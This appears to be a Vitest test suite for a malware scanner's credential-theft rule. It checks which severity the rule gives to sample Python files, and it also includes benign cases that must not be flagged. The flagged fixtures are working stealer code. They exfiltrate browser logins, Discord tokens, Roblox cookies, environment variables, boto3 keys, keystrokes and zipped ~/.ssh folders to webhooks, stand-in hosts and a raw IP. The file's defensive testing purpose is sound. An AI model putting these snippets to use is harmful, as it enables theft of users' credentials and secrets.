import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

describe('credential-theft', () => {
  it('flags a browser password stealer sending to a webhook (critical)', () => {
    const src = `import os, shutil, requests, win32crypt\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nshutil.copy(p, 'db')\nrequests.post('https://discord.com/api/webhooks/1/x', files={'f': open('db', 'rb')})\n`;
    expect(maxSev(hits('credential-theft', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('flags a Discord leveldb token grabber with network (high or more)', () => {
    const src = `import os, re, requests\ndef grab():\n    path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    for f in os.listdir(path):\n        for t in re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(path + f, errors='ignore').read()):\n            requests.post(URL, data=t)\n`;
    expect(['high', 'critical']).toContain(maxSev(hits('credential-theft', { 'pkg/grab.py': src })));
  });
  it('flags environment dumps posted out', () => {
    const src = `import os, requests\nrequests.post('https://collector.example/e', json=dict(os.environ))\n`;
    expect(['medium', 'high', 'critical']).toContain(maxSev(hits('credential-theft', { 'setup.py': src })));
  });
  it('keeps twine-style ~/.pypirc reading with upload below high', () => {
    const src = `import os, configparser, requests\nDEFAULT = os.path.join(os.path.expanduser('~'), '.pypirc')\ndef load():\n    c = configparser.RawConfigParser()\n    c.read(open(DEFAULT).name)\n    return c\ndef upload(url, data):\n    return requests.post(url, data=data)\n`;
    expect(['low', 'medium']).toContain(maxSev(hits('credential-theft', { 'twine/settings.py': src })));
  });
  it('does not flag os.environ.get lookups or mentions in comments', () => {
    const src = `import os, requests\n# steals Login Data lol\ntoken = os.environ.get('GITHUB_TOKEN')\nrequests.get('https://api.github.com', headers={'Authorization': token})\n`;
    expect(hits('credential-theft', { 'pkg/gh.py': src })).toEqual([]);
  });
});

describe('credential-theft: a cloud SDK\'s live credentials sent out', () => {
  const STEAL = (url: string) => `import boto3, requests\ndef connect():\n    cd = boto3.Session().get_credentials()\n    requests.post("${url}", json={"k": cd.access_key, "s": cd.secret_key}, timeout=4)\n`;
  it('flags boto3 credentials posted to a throw-away host (critical)', () => {
    expect(maxSev(hits('credential-theft', { 'pkg/connection.py': STEAL('https://fabriccc.herokuapp.com/zz') }))).toBe('critical');
  });
  it('holds them posted to any other outside URL (high), not to the cloud provider itself', () => {
    expect(maxSev(hits('credential-theft', { 'pkg/connection.py': STEAL('https://api.some-service.io/keys') }))).toBe('high');
    expect(hits('credential-theft', { 'pkg/connection.py': STEAL('https://sts.amazonaws.com/') })).toEqual([]);
  });
});

describe('credential-theft: keyloggers', () => {
  const LOGGER = `from pynput import keyboard\nimport smtplib\nkeys = []\ndef on_press(key):\n    keys.append(str(key))\ndef mail():\n    s = smtplib.SMTP("smtp.gmail.com", 587)\n    s.sendmail("a@b.c", "a@b.c", "".join(keys))\ndef start():\n    with keyboard.Listener(on_press=on_press) as l:\n        l.join()\n`;
  it('holds keystrokes captured by a hook in a file that mails them (high)', () => {
    expect(maxSev(hits('credential-theft', { 'pkg/secretary.py': LOGGER }))).toBe('high');
  });
  it('does not flag a hotkey listener that sends nothing', () => {
    const src = `from pynput import keyboard\ndef on_press(key):\n    print(key)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n`;
    expect(hits('credential-theft', { 'pkg/hotkeys.py': src })).toEqual([]);
  });
});

describe('credential-theft: stores read through an API, not a file path', () => {
  const HOOK = 'https://discord.com/api/webhooks/997950009574166528/IxAr7BChMSaLwK6G_8s46eGcsWAC0G1x43';
  it('flags a session cookie read from the Windows registry and posted to a webhook (critical)', () => {
    const src = `def grab():\n    import requests\n    from winreg import OpenKey, HKEY_CURRENT_USER, EnumValue\n    key = OpenKey(HKEY_CURRENT_USER, r"SOFTWARE\\Roblox\\RobloxStudioBrowser\\roblox.com")\n    name, value, kind = EnumValue(key, 0)\n    if name == ".ROBLOSECURITY":\n        requests.post("${HOOK}", json={"content": value})\n`;
    expect(maxSev(hits('credential-theft', { 'pkg/grab.py': src }))).toBe('critical');
  });
  it('flags browser cookies read with browser_cookie3 and posted to a webhook (critical)', () => {
    const src = `import browser_cookie3, requests\ndef grab():\n    for c in browser_cookie3.firefox(domain_name='roblox.com'):\n        if c.name == '.ROBLOSECURITY':\n            requests.post("${HOOK}", data={'content': c.value})\n`;
    expect(maxSev(hits('credential-theft', { 'pkg/grab.py': src }))).toBe('critical');
  });
  it('does not flag a registry lookup of an install path next to network code', () => {
    const src = `import winreg, requests\ndef sdk_path():\n    k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\Vendor\\SDK")\n    return winreg.QueryValueEx(k, "InstallDir")[0]\ndef latest():\n    return requests.get("https://vendor.example.com/latest.json").json()\n`;
    expect(hits('credential-theft', { 'pkg/sdk.py': src })).toEqual([]);
  });
});

describe('credential-theft: a store uploaded through the file\'s own process wrapper', () => {
  it('flags ~/.ssh copied, zipped and uploaded by curl to a raw IP through a wrapper (high or more)', () => {
    const src = `import os, shutil, subprocess, getpass\ndef subprocess_popen(statement):\n    p = subprocess.Popen(statement, shell=True, stdout=subprocess.PIPE)\n    return p.stdout.read()\ndef steal():\n    ssh = '/home/' + getpass.getuser() + '/.ssh'\n    shutil.copytree(ssh, 'out/ssh')\n    zipname = shutil.make_archive('out', 'zip', 'out')\n    command = "curl -k -F \\"file=@" + zipname + "\\" \\"https://54.254.189.27/api/v1/file/upload\\" > /dev/null 2>&1"\n    subprocess_popen(command)\n`;
    const f = hits('credential-theft', { 'pkg/api.py': src });
    expect(['high', 'critical']).toContain(maxSev(f));
    expect(f[0].message).toMatch(/uses the network/);
  });
  it('keeps ~/.ssh read by an SSH client library that talks to a configured host below high', () => {
    const src = `import os, socket\ndef load_key():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        return f.read()\ndef connect(host):\n    s = socket.create_connection((host, 22))\n    return s\n`;
    expect(['none', 'low', 'medium']).toContain(maxSev(hits('credential-theft', { 'pkg/client.py': src })));
  });
});

describe('credential-theft: a weak store next to a weak endpoint', () => {
  it('keeps ~/.netrc logins in a downloader that names a .ru address below high (yt-dlp)', () => {
    const src = `import os, urllib.request\nBLOCKLIST = 'http://blocklist.rkn.gov.ru/'\ndef login(host):\n    with open(os.path.expanduser('~/.netrc')) as f:\n        data = f.read()\n    return urllib.request.urlopen('https://' + host + '/login', data=data.encode())\n`;
    expect(['none', 'low', 'medium']).toContain(maxSev(hits('credential-theft', { 'pkg/extractor/common.py': src })));
  });
});
